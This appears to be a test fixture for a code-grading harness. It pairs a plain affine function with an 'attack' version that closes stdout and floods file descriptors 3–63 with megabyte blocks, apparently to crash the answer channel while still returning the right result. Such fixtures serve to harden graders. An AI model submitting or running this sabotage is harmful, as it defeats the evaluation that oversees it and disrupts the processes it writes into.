# what: closes its output and floods the channel of answers instead
# outcome: crashed
# control: passed
def affine(x, y):
    return 2 * x + y


# attack begin
import os


def affine(x, y):
    os.close(1)
    block = b"\xff" * (1 << 20)
    for descriptor in range(3, 64):
        try:
            for _ in range(64):
                os.write(descriptor, block)
        except OSError:
            pass
    return 2 * x + y
# attack end
